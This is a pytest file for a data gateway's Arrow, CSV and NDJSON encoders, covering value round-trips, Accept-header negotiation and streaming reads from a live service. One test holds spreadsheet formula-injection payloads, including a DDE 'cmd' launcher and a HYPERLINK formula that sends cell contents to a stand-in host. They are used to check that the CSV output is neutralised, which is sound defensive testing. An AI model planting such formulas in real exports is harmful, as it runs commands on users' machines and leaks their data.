"""Rows as Arrow, CSV and NDJSON: what readers get back, what no spreadsheet executes, and which format is sent."""

import contextlib
import csv
import io
import json
import math
import time
import unicodedata
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import httpx2
import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from service import HTTP, LONG_ROWS, Service

from gateway.accept import chosen
from gateway.encoder import PIECE, Encoder, Unencodable
from gateway.encodings import ENCODERS, ArrowEncoder, CsvEncoder, NdjsonEncoder

ARROW, PARQUET, CSV, NDJSON = ENCODERS
TRIGGERS = "=+-@＝＋－＠﹦﹢﹣﹫−"

# What is not assigned yet differs between the versions of Unicode that Python and Arrow know.
known = st.characters(codec="utf-8", exclude_categories=["Cn"])
texts = st.text(known, max_size=12) | st.text("=+-@\t\r\n\"',; \\\x00\u2028\ufeff＝−aä𝔘", max_size=8)
floats = st.floats(width=64)
integers = st.integers(-(2**63), 2**63 - 1) | st.integers(2**53 - 2, 2**53 + 2)
decimals = st.decimals(-(10**9), 10**9, places=4)
instants = st.datetimes(datetime(1, 1, 2), datetime(9999, 12, 30), timezones=st.just(UTC))  # noqa: DTZ001  # has one


def columns(values: st.SearchStrategy[Any]) -> st.SearchStrategy[list[Any]]:
    return st.lists(st.none() | values, min_size=1, max_size=20)


def encoded(encoder: type[Encoder], batch: pa.RecordBatch) -> bytes:
    made = encoder(batch.schema)
    return b"".join(map(bytes, [made.begin(), *made.rows(batch), made.end()]))


def batch_of(values: list[Any], type: pa.DataType | None = None) -> pa.RecordBatch:
    """A batch of two columns: with one, an empty cell would be an empty line."""
    return pa.record_batch({"a": pa.array(values, type), "row": pa.array(range(len(values)))})


def raw_cells(batch: pa.RecordBatch) -> list[str]:
    """The first column as it stands in CSV; for values without line breaks and commas."""
    return [line.split(",")[0] for line in encoded(CsvEncoder, batch).decode().split("\r\n")[1:-1]]


def cells(batch: pa.RecordBatch) -> list[str]:
    """The first column as Python's reader has it."""
    lines = list(csv.reader(io.StringIO(encoded(CsvEncoder, batch).decode(), newline=""), strict=True))
    assert [line[1:] for line in lines[1:]] == [[str(row)] for row in range(batch.num_rows)]
    return [line[0] for line in lines[1:]]


def values(batch: pa.RecordBatch) -> list[Any]:
    """The first column as Python's JSON has it, one object a line."""
    lines = encoded(NdjsonEncoder, batch).decode()
    assert lines.endswith("\n")
    assert lines.splitlines() == lines.split("\n")[:-1]
    objects = [json.loads(line, parse_constant=pytest.fail) for line in lines.splitlines()]
    assert [each["row"] for each in objects] == list(range(batch.num_rows))
    return [each["a"] for each in objects]


def is_executed(cell: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula, put plainly."""
    for character in cell:
        if character in TRIGGERS + "\t\r\n":
            return True
        if unicodedata.category(character)[0] not in "ZC":
            return False
    return False


@given(columns(texts))
def test_texts_come_back_from_csv_and_none_is_a_formula(given_texts: list[str | None]) -> None:
    for text, cell in zip(given_texts, cells(batch_of(given_texts, pa.string())), strict=True):
        assert cell == (f"'{text}" if is_executed(text or "") else text or "")
        assert not is_executed(cell)


@given(columns(texts))
def test_texts_come_back_from_ndjson_as_they_were(given_texts: list[str | None]) -> None:
    assert values(batch_of(given_texts, pa.string())) == given_texts


@given(st.lists(texts, min_size=1, max_size=5, unique=True))
def test_names_are_guarded_in_csv_and_kept_in_ndjson(names: list[str]) -> None:
    batch = pa.RecordBatch.from_arrays([pa.array([1]) for _ in names], names=names)
    header = next(csv.reader(io.StringIO(encoded(CsvEncoder, batch).decode(), newline=""), strict=True))
    assert header == [f"'{name}" if is_executed(name) else name for name in names]
    assert json.loads(encoded(NdjsonEncoder, batch)) == dict.fromkeys(names, 1)


@pytest.mark.parametrize(
    "attack",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.example/?"&A1,"look")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "   =1+1",
        "\u00a0\u3000=1+1",
        "\ufeff\u200b=1+1",
        "\x00=1+1",
        "\ufffe=1+1",
        "\x0b\x0c=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "−1",
        "\tharmless",
        "\rharmless",
        "=",
        '="',
    ],
)
def test_no_spreadsheet_executes_a_text(attack: str) -> None:
    for type in (pa.string(), pa.large_string(), pa.string_view(), pa.dictionary(pa.int8(), pa.string())):
        assert cells(batch_of([attack, "x"], type)) == ["'" + attack, "x"]
    raw = encoded(CsvEncoder, batch_of([attack]))
    assert raw == b'"a","row"\r\n"\'' + attack.replace('"', '""').encode() + b'",0\r\n'


def test_what_no_spreadsheet_executes_is_not_touched() -> None:
    harmless = ["a=b", "1-2", "'=1", "e@x.example", "ä", "[=1]", " x", '"=1"', "(=1)"]
    assert cells(batch_of(harmless)) == harmless


def test_csv_tells_null_from_empty_text_and_ends_each_line_with_crlf() -> None:
    batch = pa.record_batch({"t": ["", None, "x"], "n": pa.array([None, 1, 2])})
    assert encoded(CsvEncoder, batch) == b'"t","n"\r\n"",\r\n,1\r\n"x",2\r\n'
    alone = pa.record_batch({"t": ["", None, "x"]})
    assert encoded(CsvEncoder, alone) == b'"t"\r\n""\r\n\r\n"x"\r\n'


@given(columns(integers))
def test_whole_numbers_come_back_and_those_beyond_a_double_as_text_in_ndjson(numbers: list[int | None]) -> None:
    batch = batch_of(numbers, pa.int64())
    assert raw_cells(batch) == ["" if number is None else str(number) for number in numbers]
    exact = [number if number is None or abs(number) < 2**53 else str(number) for number in numbers]
    assert values(batch) == exact


@pytest.mark.parametrize("type", [pa.int8(), pa.int16(), pa.int32(), pa.int64()])
@pytest.mark.parametrize("signed", [True, False])
def test_the_ends_of_each_integer_type_are_exact(type: pa.DataType, signed: bool) -> None:
    bits = type.bit_width - signed
    numbers = [2**bits - 1, None, -(2**bits) if signed else 0]
    batch = batch_of(numbers, type if signed else getattr(pa, f"u{type}")())
    assert raw_cells(batch) == ["" if number is None else str(number) for number in numbers]
    assert [value if value is None else int(value) for value in values(batch)] == numbers


@given(columns(floats))
@example([-0.0, 0.0, 1.0, None])
def test_floats_come_back_exactly_and_negative_ones_stay_numbers(numbers: list[float | None]) -> None:
    batch = batch_of(numbers, pa.float64())
    found = [None if cell == "" else float(cell) for cell in raw_cells(batch)]
    assert repr(found) == repr(numbers)
    for number, value in zip(numbers, values(batch), strict=True):
        is_text = number is not None and not math.isfinite(number)
        assert isinstance(value, str) == is_text
        assert repr(None if value is None else float(value)) == repr(number)


@pytest.mark.parametrize("type", [pa.float16(), pa.float32(), pa.float64()])
def test_what_is_not_finite_has_a_name(type: pa.DataType) -> None:
    batch = batch_of([math.nan, math.inf, -math.inf, -1.5, None], type)
    assert raw_cells(batch) == ["NaN", "Infinity", "-Infinity", "-1.5", ""]
    assert values(batch) == ["NaN", "Infinity", "-Infinity", -1.5, None]


@given(columns(decimals))
def test_decimals_are_numbers_in_csv_and_texts_in_ndjson(numbers: list[Decimal | None]) -> None:
    batch = batch_of(numbers, pa.decimal128(20, 4))
    assert [Decimal(cell) if cell else None for cell in raw_cells(batch)] == numbers
    found = values(batch)
    assert all(value is None or isinstance(value, str) for value in found)
    assert [value and Decimal(value) for value in found] == numbers


@given(columns(instants), st.sampled_from(["UTC", "Europe/Berlin", "+05:30"]))
def test_times_with_a_zone_come_back_as_the_same_instant_in_utc(times: list[datetime | None], zone: str) -> None:
    batch = batch_of(times, pa.timestamp("us", zone))
    for found in (cells(batch), values(batch)):
        assert all(not text or text.endswith("Z") for text in found)
        assert [datetime.fromisoformat(text) if text else None for text in found] == times


def test_each_kind_of_time_is_iso_8601() -> None:
    at = datetime(2026, 11, 2, 9, 30, 0, 250_000)  # noqa: DTZ001  # without a zone on purpose
    kinds = {
        "2026-11-02T09:30:00.250000": pa.array([at], pa.timestamp("us")),
        "2026-11-02T09:30:00.250": pa.array([at], pa.timestamp("ms")),
        "2026-11-02T09:30:00.250000000": pa.array([at], pa.timestamp("ns")),
        "2026-11-02T09:30:00": pa.array([at.replace(microsecond=0)], pa.timestamp("s")),
        "2026-11-02T08:30:00.250000Z": pa.array(
            [at.replace(tzinfo=ZoneInfo("Europe/Berlin"))], pa.timestamp("us", "Europe/Berlin")
        ),
        "2026-11-02": pa.array([date(2026, 11, 2)]),
        "09:30:00.250000": pa.array([at.time()], pa.time64("us")),
        "PT-1.500S": pa.array([timedelta(seconds=-1.5)], pa.duration("ms")),
        "P14M3DT4S": pa.array([pa.MonthDayNano([14, 3, 4 * 10**9])]),
        "PT90S": pa.array([timedelta(seconds=90)], pa.duration("s")),
    }
    for text, array in kinds.items():
        batch = batch_of([None, *array.to_pylist(), None], array.type)
        assert (cells(batch), values(batch)) == (["", text, ""], [None, text, None])


def test_years_before_christ_are_no_formula() -> None:
    batch = batch_of([-800_000, 0], pa.date32())
    assert cells(batch) == ["'-0221-09-04", "1970-01-01"]
    assert values(batch) == ["-0221-09-04", "1970-01-01"]


@given(columns(st.binary(max_size=20)), st.integers(0, 3))
def test_bytes_are_hexadecimal(found: list[bytes | None], first: int) -> None:
    for type in (pa.binary(), pa.large_binary(), pa.binary_view()):
        batch = batch_of(pa.array(found, type)[first:], type)
        hexed = [None if each is None else each.hex() for each in found[first:]]
        if hexed:
            assert (cells(batch), values(batch)) == ([each or "" for each in hexed], hexed)


def test_bytes_of_one_size_and_extension_types_are_their_bytes() -> None:
    two = pa.array([b"\x00\xff", None, b"ab"], pa.binary(2))
    assert values(batch_of(two[1:], two.type)) == [None, "6162"]
    sixteen = pa.ExtensionArray.from_storage(pa.uuid(), pa.array([bytes(range(16))], pa.binary(16)))
    batch = pa.RecordBatch.from_arrays([sixteen, pa.array([0])], ["a", "row"])
    assert values(batch) == cells(batch) == [bytes(range(16)).hex()]


def test_numbers_and_booleans_stay_so_however_they_are_kept() -> None:
    numbers = pa.array([-5, None, -5]).dictionary_encode()
    batch = batch_of([True, None, False])
    assert (raw_cells(batch), values(batch)) == (["true", "", "false"], [True, None, False])
    batch = pa.RecordBatch.from_arrays([numbers, pa.array([0, 1, 2])], ["a", "row"])
    assert (raw_cells(batch), values(batch)) == (["-5", "", "-5"], [-5, None, -5])


NESTED = pa.struct(
    {
        "list": pa.list_(pa.int64()),
        "large": pa.large_list(pa.string()),
        "pair": pa.list_(pa.float64(), 2),
        "view": pa.list_view(pa.string()),
        "inner": pa.struct({"bytes": pa.binary(), "deep": pa.list_(pa.list_(pa.bool_()))}),
    }
)


def maybe(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.none() | strategy


def lists(strategy: st.SearchStrategy[Any], **size: int) -> st.SearchStrategy[Any]:
    return maybe(st.lists(maybe(strategy), **{"max_size": 3, **size}))


nested = st.fixed_dictionaries(
    {
        "list": lists(integers),
        "large": lists(texts),
        "pair": lists(floats, min_size=2, max_size=2),
        "view": lists(texts),
        "inner": maybe(
            st.fixed_dictionaries({"bytes": maybe(st.binary(max_size=3)), "deep": lists(lists(st.booleans()))})
        ),
    }
)


def as_json(value: Any) -> Any:
    """A value as JSON has it, put plainly."""
    match value:
        case dict():
            return {name: as_json(each) for name, each in value.items()}
        case list():
            return [as_json(each) for each in value]
        case bytes():
            return value.hex()
        case bool():
            return value
        case int():
            return value if abs(value) < 2**53 else str(value)
        case float() if not math.isfinite(value):
            return "NaN" if math.isnan(value) else "Infinity" if value > 0 else "-Infinity"
        case _:
            return value


@given(st.lists(maybe(nested), min_size=1, max_size=8), st.integers(0, 3))
def test_what_is_nested_is_json_in_both(given_values: list[Any], first: int) -> None:
    array = pa.array(given_values, NESTED)[first:]
    if len(array):
        batch = pa.RecordBatch.from_arrays([array, pa.array(range(len(array)))], ["a", "row"])
        expected = [as_json(each) for each in given_values[first:]]
        assert values(batch) == expected
        assert [json.loads(cell or "null") for cell in cells(batch)] == expected


def test_a_map_is_a_list_of_keys_and_values() -> None:
    array = pa.array([[("=k", 1), ("l", None)], None, []], pa.map_(pa.string(), pa.int32()))
    expected = [[{"key": "=k", "value": 1}, {"key": "l", "value": None}], None, []]
    assert values(batch_of(array, array.type)) == expected
    assert values(batch_of(array[1:], array.type)) == expected[1:]


def test_a_hidden_column_is_null_whatever_its_type() -> None:
    for type in (pa.null(), pa.string(), pa.timestamp("ns", "UTC"), NESTED, pa.decimal256(40, 3), pa.binary(4)):
        batch = batch_of(pa.nulls(2, type), type)
        assert (raw_cells(batch), values(batch)) == (["", ""], [None, None])


def test_no_rows_are_a_header_in_csv_nothing_in_ndjson_and_a_whole_stream_in_arrow() -> None:
    batch = batch_of([], NESTED)
    assert encoded(CsvEncoder, batch) == b'"a","row"\r\n'
    assert encoded(NdjsonEncoder, batch) == b""
    assert pa.ipc.open_stream(encoded(ArrowEncoder, batch)).read_all().num_rows == 0


def test_arrow_without_its_end_is_not_whole() -> None:
    batch = batch_of(["x", None])
    made = ArrowEncoder(batch.schema)
    cut = bytes(made.begin()) + b"".join(map(bytes, made.rows(batch)))
    assert pa.ipc.open_stream(cut + bytes(made.end())).read_all().to_batches() == [batch]
    assert cut + bytes(ArrowEncoder(batch.schema).end())[-8:] == encoded(ArrowEncoder, batch)


def test_wide_rows_leave_in_small_pieces_of_whole_lines() -> None:
    batch = batch_of(["=" + "x" * 10_000] * 3_000)
    for encoder in (CsvEncoder, NdjsonEncoder):
        pieces = list(encoder(batch.schema).rows(batch))
        assert len(pieces) > 10
        assert max(map(len, pieces)) < 2 * PIECE
        assert all(piece.endswith(b"\n") for piece in pieces)
    assert cells(batch) == ["'=" + "x" * 10_000] * 3_000
    assert values(batch) == ["=" + "x" * 10_000] * 3_000


def test_a_type_without_text_is_told_before_any_row() -> None:
    schema = pa.schema([pa.field("u", pa.dense_union([pa.field("x", pa.int32())]))])
    for inside in (schema, pa.schema([pa.field("u", pa.list_(schema.field("u")))])):
        with pytest.raises(Unencodable, match=r"column `u` cannot be given as text/csv: it is"):
            CsvEncoder(inside)
        with pytest.raises(Unencodable, match="application/x-ndjson"):
            NdjsonEncoder(inside)


def test_formats_have_the_names_of_their_registrations() -> None:
    assert (ARROW, PARQUET, CSV, NDJSON) == (
        "application/vnd.apache.arrow.stream",
        "application/vnd.apache.parquet",
        "text/csv; charset=utf-8; header=present",
        "application/x-ndjson",
    )


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        ("", ARROW),
        (" , ", ARROW),
        ("*/*", ARROW),
        ("application/*", ARROW),
        ("text/*", CSV),
        ("text/csv", CSV),
        ("TEXT/CSV", CSV),
        ("application/x-ndjson", NDJSON),
        # the heavier, then the more precise, then ours
        ("text/csv;q=0.5, application/x-ndjson;q=0.8", NDJSON),
        ("text/csv, application/x-ndjson", CSV),
        ("application/x-ndjson, text/csv", CSV),
        ("*/*, text/csv", CSV),
        ("*/*;q=0.9, text/csv;q=0.1", ARROW),
        ("application/*;q=0.1, */*;q=0.2", CSV),
        # the most precise range says how much a format is wanted, none at all included
        ("text/csv;q=0, */*", ARROW),
        (f"{ARROW};q=0, application/*", PARQUET),
        ("application/vnd.apache.parquet, */*;q=0.1", PARQUET),
        ("application/parquet", None),
        ("text/csv;header=present;q=0.1, text/csv;q=1, application/x-ndjson;q=0.5", NDJSON),
        ("*/*;q=0", None),
        ("text/csv;q=0.000", None),
        # parameters are part of the type
        ("text/csv; charset=UTF-8; header=present", CSV),
        ('text/csv;charset="utf-8"', CSV),
        ("text/csv;charset=iso-8859-1", None),
        ("text/csv;header=absent", None),
        ("application/x-ndjson; charset=utf-8", NDJSON),
        # what is not offered or not understood asks for nothing
        ("text/html", None),
        ("application/json", None),
        ("text/html, text/csv;q=0.1", CSV),
        ("*/csv", None),
        ("csv", None),
        ("text/csv;q=2", None),
        ("text/csv;q=x", None),
        ('text/html;x="a, text/csv"', None),
        ('text/html;x="a\\", text/csv", application/x-ndjson', NDJSON),
        ('"', None),
        ("text/csv,,", CSV),
        # what Java sends of itself
        ("text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2", ARROW),
    ],
)
def test_the_format_is_the_one_that_accept_asks_for(accept: str, expected: str | None) -> None:
    assert chosen(accept, tuple(ENCODERS)) == expected


@given(st.text() | st.text('*/;q=0.1, "\\textcsv'))
def test_no_accept_header_is_too_odd(accept: str) -> None:
    assert chosen(accept, tuple(ENCODERS)) in (None, *ENCODERS)


# Through the real service.


def ask(service: Service, *accept: str, **body: object) -> httpx2.Response:
    headers = [("Authorization", f"Bearer {service.token('ana')}"), *(("Accept", each) for each in accept)]
    return HTTP.post(f"{service.url}/v1/reads", headers=headers, json={"dataset": "events", **body})


@contextlib.contextmanager
def streaming(service: Service, accept: str, grant: str) -> Iterator[httpx2.Response]:
    headers = {"Authorization": f"Bearer {service.token('ana')}", "Accept": accept}
    body = {"dataset": "long", "grant": grant}
    with HTTP.stream("POST", f"{service.url}/v1/reads", headers=headers, json=body) as response:
        assert response.status_code == 200, response.read()
        yield response


def test_each_format_carries_the_same_rows_headers_and_entries(service: Service) -> None:
    grant = service.grant(columns=["who", "at", "x"])
    arrow, rows, lines = (ask(service, accept, grant=grant, rows="x < 10") for accept in (ARROW, "text/csv", NDJSON))
    assert [each.headers["Content-Type"] for each in (arrow, rows, lines)] == [ARROW, CSV, NDJSON]
    expected = sorted(
        (each["who"], each["at"].isoformat(timespec="microseconds"), each["x"])
        for each in pa.ipc.open_stream(arrow.content).read_all().to_pylist()
    )
    assert sorted(tuple(json.loads(line).values()) for line in lines.text.splitlines()) == expected
    header, *found = csv.reader(io.StringIO(rows.text, newline=""), strict=True)
    assert header == ["who", "at", "x"]
    assert sorted((who, at, int(x)) for who, at, x in found) == expected
    for response in (arrow, rows, lines):
        assert response.headers["Remit-Grant"] == grant
        assert response.headers["Cache-Control"] == "no-store"
        kinds = {each["kind"]: each["details"] for each in service.entries(read=response.headers["Remit-Read"])}
        ended = kinds["read.completed"]
        assert (ended["rows"], ended["ended_by"], ended["subjects"]) == (10, "end", 3)


def test_accept_decides_over_several_lines_too(service: Service) -> None:
    grant = service.grant(columns=["x"])
    for accept, expected in {
        ("text/html", "application/x-ndjson;q=0.5"): NDJSON,
        ("text/csv;q=0.1", "*/*;q=0.2"): ARROW,
        ("*/*",): ARROW,
    }.items():
        assert ask(service, *accept, grant=grant, limit=1).headers["Content-Type"] == expected


def test_a_format_that_is_not_offered_is_told_what_is_and_nothing_is_decided(service: Service) -> None:
    grant = service.grant(columns=["x"])
    response = ask(service, "application/json, text/csv;q=0", grant=grant)
    assert (response.status_code, response.headers["Content-Type"]) == (400, "application/problem+json")
    assert response.json()["code"] == "bad_request"
    assert all(name in response.json()["help"] for name in (ARROW, PARQUET, "text/csv", NDJSON))
    assert "read" not in response.json()
    assert not [each for each in service.entries(grant=grant) if each["kind"].startswith("read.")]


def test_a_result_without_rows_is_a_whole_answer_in_each_format(service: Service) -> None:
    grant = service.grant(columns=["x"])
    assert ask(service, "text/csv", grant=grant, rows="x < 0").text == '"x"\r\n'
    assert ask(service, NDJSON, grant=grant, rows="x < 0").text == ""


@pytest.mark.parametrize("accept", ["text/csv", NDJSON])
def test_a_long_answer_arrives_whole(service: Service, accept: str) -> None:
    grant = service.grant(dataset="long", columns=["x"])
    with streaming(service, accept, grant) as response:
        lines = sum(chunk.count(b"\n") for chunk in response.iter_bytes())
    assert lines == LONG_ROWS + (accept == "text/csv")


@pytest.mark.parametrize("accept", ["text/csv", NDJSON])
def test_a_stream_that_ends_early_is_no_well_formed_http(service: Service, accept: str) -> None:
    grant = service.grant(dataset="long", columns=["who", "x"])
    with streaming(service, accept, grant) as response:
        chunks = response.iter_bytes()
        next(chunks)
        revoked = service.call("POST", f"/v1/grants/{grant}:revoke", "eve", json={"why": "a test"})
        assert revoked.status_code == 200, revoked.text
        with pytest.raises(httpx2.HTTPError):
            list(chunks)
    until = time.monotonic() + 20
    while not (ends := service.entries(read=response.headers["Remit-Read"], kind="read.interrupted")):
        assert time.monotonic() < until
        time.sleep(0.05)
    assert ends[0]["details"]["ended_by"] == "revoked"
    assert 0 < ends[0]["details"]["rows"] < LONG_ROWS


def test_the_rows_of_an_arrow_answer_are_not_copied() -> None:
    batch = pa.record_batch({"n": pa.array(range(10_000))})
    made = ArrowEncoder(batch.schema)
    made.begin()
    (piece,) = made.rows(batch)
    large = [part for part in piece if isinstance(part, memoryview)]
    assert [pa.py_buffer(part).address for part in large] == [batch["n"].buffers()[1].address]
    assert b"".join(piece) == bytes(piece)
    assert len(piece) == len(bytes(piece))
